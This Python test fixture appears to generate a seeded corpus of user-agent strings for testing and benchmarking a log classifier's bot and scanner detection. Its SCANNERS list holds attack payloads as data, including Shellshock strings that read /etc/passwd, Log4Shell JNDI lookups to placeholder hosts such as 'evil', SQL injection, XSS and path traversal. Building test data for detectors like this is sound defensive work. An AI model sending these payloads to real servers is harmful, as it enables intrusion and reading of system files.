"""A realistic corpus of distinct user agents, as a busy site's access log has them (tens of thousands: every
browser, OS, device and app build string), and the pieces it is built from.

Used by tests/logs/test_agents_equivalence.py (the optimized :func:`is_bot`/:func:`scanner_name` against the
frozen reference) and bench/agents.py (their cost per distinct agent).  Seeded: the same corpus every time.
"""

from __future__ import annotations

import random

WINDOWS = [b"Windows NT 10.0; Win64; x64", b"Windows NT 10.0; WOW64", b"Windows NT 6.1; Win64; x64",
           b"Windows NT 6.3; Win64; x64", b"Windows NT 11.0; Win64; x64", b"Windows NT 10.0; ARM64"]
MACS = [b"Macintosh; Intel Mac OS X 10_15_7", b"Macintosh; Intel Mac OS X 10_14_6", b"Macintosh; Intel Mac OS X 13_6_1",
        b"Macintosh; Intel Mac OS X 14_2_1"]
LINUXES = [b"X11; Linux x86_64", b"X11; Ubuntu; Linux x86_64", b"X11; Fedora; Linux x86_64", b"X11; CrOS x86_64 15359.58.0",
           b"X11; Linux aarch64"]
ANDROID_DEVICES = [b"SM-G991B", b"SM-A536B", b"Pixel 7", b"Pixel 8 Pro", b"M2101K6G", b"CPH2219", b"RMX3085",
                   b"moto g(60)", b"2201117TY", b"V2134", b"CUBOT NOTE 20", b"CUBOT KINGKONG 7", b"K", b"LM-Q720",
                   b"SAMSUNG SM-S918B", b"Redmi Note 9 Pro", b"HUAWEI P30", b"Nokia G21", b"TECNO KI5q", b"Infinix X6816"]
IOS = [b"16_6", b"17_0", b"17_1_2", b"17_2_1", b"17_3", b"17_4_1", b"15_7_9", b"18_0"]
CHROME = [b"%d.0.%d.%d" % (v, 5000 + v * 30, b) for v in range(100, 132) for b in (0, 57, 105, 199, 224)]
FIREFOX = [b"%d.0" % v for v in range(90, 132)] + [b"115.%d.0" % v for v in range(1, 12)]
SAFARI = [b"%d.%d" % (v, m) for v in range(14, 19) for m in range(0, 4)]
EDGE = [b"%d.0.%d.%d" % (v, 1000 + v * 20, b) for v in range(100, 131) for b in (46, 55, 76)]

#: apps and in-app browsers (people), many carrying a company's name that is not a robot's
APPS = [
    b"Mozilla/5.0 (iPhone; CPU iPhone OS {ios} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 "
    b"[FBAN/FBIOS;FBAV/{n}.0.0.41.111;FBBV/{m};FBDV/iPhone14,5;FBMD/iPhone;FBSN/iOS;FBSV/{ios};FBSS/3;FBID/phone;"
    b"FBLC/en_US;FBOP/5]",
    b"Mozilla/5.0 (Linux; Android {av}; {dev} Build/TP1A.{m}.001; wv) AppleWebKit/537.36 (KHTML, like Gecko) "
    b"Version/4.0 Chrome/{chrome} Mobile Safari/537.36 Instagram {n}.0.0.29.110 Android (33/13; 420dpi; 1080x2400; "
    b"samsung; {dev}; r0q; qcom; en_US; {m})",
    b"Mozilla/5.0 (iPhone; CPU iPhone OS {ios} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 "
    b"[Pinterest/iOS]",
    b"Mozilla/5.0 (Linux; Android {av}; {dev}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{chrome} Mobile "
    b"Safari/537.36 baiduboxapp/{n}.5.0.10",
    b"Mozilla/5.0 (iPhone; CPU iPhone OS {ios} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    b"Version/{safari} Mobile/15E148 DuckDuckGo/7 Safari/605.1.15",
    b"Mozilla/5.0 (Linux; Android {av}; {dev}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{chrome} "
    b"YaBrowser/23.{n}.1.92.00 SA/3 Mobile Safari/537.36 YandexSearch/{m}",
    b"okhttp/{okhttp}",
    b"Dalvik/2.1.0 (Linux; U; Android {av}; {dev} Build/RKQ1.{m}.002)",
    b"MyShop/{n}.{m} (com.example.shop; build:{m}; iOS {ios}) Alamofire/5.8.1",
    b"Spotify/8.{n}.{m} Android/{av} ({dev})",
    b"WhatsApp/2.23.{n}.{m} A",
    b"Mozilla/5.0 (Linux; Android {av}; {dev}) AppleWebKit/537.36 (KHTML, like Gecko) SogouMobileBrowser/{n}.1.0 "
    b"Chrome/{chrome} Mobile Safari/537.36",
    b"Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.{m}; Pro)",
    b"Outlook-iOS/{n}.{m}.0 (iPhone14,2; iOS {ios})",
    b"Mozilla/5.0 (SMART-TV; LINUX; Tizen 6.0) AppleWebKit/537.36 (KHTML, like Gecko) {chrome} TV Safari/537.36",
    b"Roku/DVP-12.{n} (12.{n}.0.{m}-AE)",
]

#: robots (crawlers, monitors, libraries), from the names classify's bot pattern knows and the crawlers
#: GoAccess lists
BOTS = [
    b"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    b"Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) "
    b"Chrome/{chrome} Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    b"Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    b"Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
    b"Mozilla/5.0 (compatible; YandexMetrika/2.0; +http://yandex.com/bots yabs01)",
    b"Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)",
    b"DuckDuckBot/1.{n}; (+http://duckduckgo.com/duckduckbot.html)",
    b"Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    b"Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
    b"Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)",
    b"Mozilla/5.0 (compatible; DotBot/1.2; +https://opensiteexplorer.org/dotbot; help@moz.com)",
    b"Mozilla/5.0 (Linux; Android 7.0;) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 "
    b"(compatible; PetalBot;+https://webmaster.petalsearch.com/site/petalbot)",
    b"Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 "
    b"(compatible; Bytespider; spider-feedback@bytedance.com)",
    b"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.{n}; +https://openai.com/gptbot)",
    b"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)",
    b"CCBot/2.0 (https://commoncrawl.org/faq/)",
    b"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 "
    b"Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)",
    b"facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
    b"facebookcatalog/1.0",
    b"Mozilla/5.0 (compatible; Embedly/0.2; +http://support.embed.ly/)",
    b"Pinterest/0.2 (+http://www.pinterest.com/bot.html)",
    b"Mozilla/5.0 (compatible; Pinterestbot/1.0; +http://www.pinterest.com/bot.html)",
    b"Sogou web spider/4.0(+http://www.sogou.com/docs/help/webmasters.htm#07)",
    b"Mozilla/5.0 (compatible; SeznamBot/4.0; +https://o-seznam.cz/napoveda/vyhledavani/en/seznambot-crawler/)",
    b"Mozilla/5.0 (compatible; Yahoo! Slurp; http://help.yahoo.com/help/us/ysearch/slurp)",
    b"ia_archiver (+http://www.alexa.com/site/help/webmasters; crawler@alexa.com)",
    b"Mozilla/5.0 (compatible; Exabot/3.0; +http://www.exabot.com/go/robot)",
    b"Mediapartners-Google",
    b"AdsBot-Google (+http://www.google.com/adsbot.html)",
    b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) BingPreview/1.0b",
    b"Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
    b"Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)",
    b"Mozilla/5.0 (compatible; StatusCake)",
    b"Site24x7",
    b"NewRelicPinger/1.0 ({n})",
    b"Datadog Agent/7.{n}.{m}",
    b"check_http/v2.3.3 (nagios-plugins 2.3.3)",
    b"Zabbix",
    b"Monit/5.{n}.{m}",
    b"Prometheus/2.{n}.{m}",
    b"Blackbox Exporter/0.{n}.0",
    b"kube-probe/1.{n}",
    b"ELB-HealthChecker/2.0",
    b"GoogleHC/1.0",
    b"Consul Health Check",
    b"HealthCheck/1.{n}",
    b"curl/7.{n}.{m}", b"curl/8.{m}.{n}", b"Wget/1.21.{n}", b"Wget/1.{n} (linux-gnu)",
    b"python-requests/2.{n}.{m}", b"Python-urllib/3.{m}", b"Python/3.{m} aiohttp/3.{n}.{m}", b"python-httpx/0.{n}.{m}",
    b"Go-http-client/1.1", b"Go-http-client/2.0", b"Java/1.8.0_{n}", b"Java/{m}.0.{n}",
    b"okhttp/3.{n}.{m}", b"okhttp/4.{n}.{m}", b"libwww-perl/6.{n}", b"LWP::Simple/6.{n}",
    b"Apache-HttpClient/4.5.{n} (Java/1.8.0_{m})", b"node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    b"axios/1.{n}.{m}", b"PostmanRuntime/7.{n}.{m}", b"insomnia/2023.{n}.{m}", b"Jakarta Commons-HttpClient/3.1",
    b"Scrapy/2.{n}.0 (+https://scrapy.org)", b"Mozilla/5.0 (Unknown; Linux x86_64) AppleWebKit/538.1 (KHTML, like "
    b"Gecko) PhantomJS/2.1.1 Safari/538.1", b"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
    b"HeadlessChrome/{chrome} Safari/537.36", b"Mozilla/5.0 (Linux; Android 11; moto g power (2022)) AppleWebKit/537.36 "
    b"(KHTML, like Gecko) Chrome/{chrome} Mobile Safari/537.36 Chrome-Lighthouse", b"wrk/4.{n}",
    b"ApacheBench/2.3", b"ab/2.3", b"Apache-JMeter/5.{n}", b"Locust/2.{n}", b"k6/0.{n}.0 (https://k6.io/)",
    b"archive.org_bot", b"Mozilla/5.0 (compatible; archive.org_bot +http://archive.org/details/archive.org_bot)",
    b"Mozilla/5.0 (compatible; Yahoo! Slurp China; http://misc.yahoo.com.cn/help.html)",
    b"Mozilla/5.0 (compatible; Qwantify/Bleriot/1.1; +https://help.qwant.com/bot)",
    b"Mozilla/5.0 (compatible; coccocbot-web/1.0; +http://help.coccoc.com/searchengine)",
    b"Twitterbot/1.0", b"LinkedInBot/1.0 (compatible; Mozilla/5.0; Apache-HttpClient +http://www.linkedin.com)",
    b"Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", b"TelegramBot (like TwitterBot)",
    b"Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)", b"WhatsApp/2.{n}.{m} W",
    b"Quora Link Preview/1.0", b"Mozilla/5.0 (compatible; Linux x86_64; Mail.RU_Bot/2.0; +http://go.mail.ru/help/robots)",
]

#: scanners and exploits sent as the user agent (SCANNER_AGENTS' tools and payloads)
SCANNERS = [
    b"sqlmap/1.{n}.{m}#stable (https://sqlmap.org)", b"Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)",
    b"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", b"masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    b"Mozilla/5.0 zgrab/0.x", b"Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    b"WPScan v3.8.{n} (https://wpscan.com/wordpress-security-scanner)", b"DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
    b"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1) dirb", b"gobuster/3.{n}.0", b"feroxbuster/2.{n}.{m}",
    b"Fuzz Faster U Fool v2.1.0-dev", b"ffuf v2", b"Wfuzz/3.1.0", b"Acunetix-Product: WVS/5.0", b"Nessus SOAP",
    b"Mozilla/5.0 [en] (X11, U; OpenVAS-VT 21.{n}.{m})", b"w3af.org", b"Mozilla/5.0 (Hydra)", b"ZmEu",
    b"Morfeus Fucking Scanner", b"Mozilla/5.0 Jorgee", b"Havij", b"commix/v3.{n}", b"WhatWeb/0.5.{n}",
    b"Arachni/v1.5.1", b"Netsparker", b"AppScan", b"l9explore/1.2.2", b"l9tcpid/v1.1.0",
    b"Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
    b"Expanse, a Palo Alto Networks company, searches across the global IPv4 space multiple times per day",
    b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 xpanse-xyz",
    b"() { :; }; echo; echo; /bin/bash -c 'cat /etc/passwd'", b"() {:;};/usr/bin/id",
    b"${jndi:ldap://x{n}.c7f{m}.oast.fun/a}", b"${${::-j}${::-n}${::-d}${::-i}:rmi://evil/x}",
    b"${${lower:j}ndi:dns://x/}", b"${ jndi :ldap://127.0.0.1:1389/a}", b"Mozilla/5.0 x{n}.interact.sh",
    b"-8613) OR 3727=3103-- fkGd", b"<script>alert({n})</script>", b"Mozilla/5.0 ;cat /etc/passwd",
    b"../../../../etc/passwd", b"Mozilla/5.0 (X11) ' OR '1'='1", b"%24%7Bjndi%3Aldap%3A%2F%2Fx%7D",
    b"\\x22Mozilla/5.0\\x22 ${jndi:ldap://a}", b"Mozilla/5.0 | /bin/sh", b"`id`",
]

JUNK = [b"-", b"", b" ", b"  -  ", b"Mozilla", b"Mozilla/5.0", b"Mozilla/4.0 (compatible;)", b"test", b"x", b"\\x00",
        b"\xc3\xa9t\xc3\xa9 client", b"\xff\xfe\x00A", b"\xe4\xb8\xad\xe6\x96\x87\xe6\xb5\x8f\xe8\xa7\x88\xe5\x99\xa8/1.0",
        b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) \\xD0\\x9F\\xD1\\x80\\xD0\\xB8", b"HTTP Banner Detection",
        b"Robot", b"ROBOT", b"robots.txt checker", b"BOT", b"ABot", b"cubot", b"CUBOT", b"mybot!", b"bot", b"Abot/1",
        b"okhttp/3.12.1", b"okhttp/3.12.1 ", b"okhttp/3.12.1\n", b"okhttp/3.12.1 extra", b"ab/", b" ab/2", b"xab/1",
        b"Healthcheck", b"health-check", b"health_check", b"HEALTH CHECK", b"healthxcheck", b"'", b"<", b"=", b"%",
        b"\\", b"../", b"Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)"]

#: words that occur in agents and in classify's patterns, mixed into generated agents
WORDS = [b"bot", b"Bot", b"BOT", b"cubot", b"CuBot", b"crawl", b"spider", b"slurp", b"curl/", b"wget/", b"java/",
         b"okhttp/3.1.2", b"ab/", b"health check", b"healthcheck", b"k6/", b"wrk", b"monit/", b"nmap", b"dirb",
         b"ffuf", b"xpanse", b"${", b"() { :; };", b".oast.pro", b".interact.sh", b"' or 1=1--", b"%27", b"\\x27",
         b"<svg onload=", b"|", b"$(", b";", b"=", b"../", b"\\xC0\\xAE", b"\xef\xbc\x8e", b"\xc3\xa9", b"\xff",
         b"\t", b" ", b"\n", b"/", b"(", b")", b"-", b"_"]


def _fill(rnd: random.Random, template: bytes) -> bytes:
    subst = {
        b"{ios}": rnd.choice(IOS), b"{av}": str(rnd.randint(7, 14)).encode(), b"{dev}": rnd.choice(ANDROID_DEVICES),
        b"{chrome}": rnd.choice(CHROME), b"{safari}": rnd.choice(SAFARI), b"{n}": str(rnd.randint(0, 499)).encode(),
        b"{m}": str(rnd.randint(0, 99999)).encode(), b"{okhttp}": b"%d.%d.%d" % (rnd.randint(2, 5), rnd.randint(0, 14),
                                                                                rnd.randint(0, 3)),
    }
    for k, v in subst.items():
        while k in template:
            template = template.replace(k, v, 1)
    return template


def browser(rnd: random.Random) -> bytes:
    kind = rnd.randrange(6)
    osys = rnd.choice(WINDOWS + MACS + LINUXES)
    if kind == 0:
        return b"Mozilla/5.0 (%s) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%s Safari/537.36" % (
            osys, rnd.choice(CHROME))
    if kind == 1:
        ff = rnd.choice(FIREFOX)
        return b"Mozilla/5.0 (%s; rv:%s) Gecko/20100101 Firefox/%s" % (osys, ff, ff)
    if kind == 2:
        return b"Mozilla/5.0 (%s) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/%s Safari/605.1.15" % (
            rnd.choice(MACS), rnd.choice(SAFARI))
    if kind == 3:
        c = rnd.choice(EDGE)
        return b"Mozilla/5.0 (%s) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%s Safari/537.36 Edg/%s" % (
            osys, c, c)
    if kind == 4:
        return b"Mozilla/5.0 (Linux; Android %d; %s) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%s Mobile Safari/537.36" \
            % (rnd.randint(7, 14), rnd.choice(ANDROID_DEVICES), rnd.choice(CHROME))
    return b"Mozilla/5.0 (iPhone; CPU iPhone OS %s like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/%s " \
        b"Mobile/15E148 Safari/604.1" % (rnd.choice(IOS), rnd.choice(SAFARI))


def junk(rnd: random.Random) -> bytes:
    """An agent of random pieces: words of the patterns, random bytes, random case."""
    parts = [rnd.choice(WORDS) if rnd.random() < 0.5 else bytes(rnd.randrange(256) for _ in range(rnd.randrange(6)))
             for _ in range(rnd.randrange(1, 8))]
    a = b"".join(parts)
    return bytes(c ^ 0x20 if 97 <= (c | 0x20) <= 122 and rnd.random() < 0.3 else c for c in a)


def corpus(n: int, seed: int = 1) -> list[bytes]:
    """``n`` distinct user agents in a busy site's proportions: mostly browsers and apps, a tenth robots, some
    scanners, junk and random bytes."""
    rnd = random.Random(seed)
    out: dict[bytes, None] = {a: None for a in JUNK}
    while len(out) < n:
        r = rnd.random()
        if r < 0.70:
            a = browser(rnd)
        elif r < 0.85:
            a = _fill(rnd, rnd.choice(APPS))
        elif r < 0.95:
            a = _fill(rnd, rnd.choice(BOTS))
        elif r < 0.97:
            a = _fill(rnd, rnd.choice(SCANNERS))
        else:
            a = junk(rnd)
        out[a] = None
    return list(out)[:n]
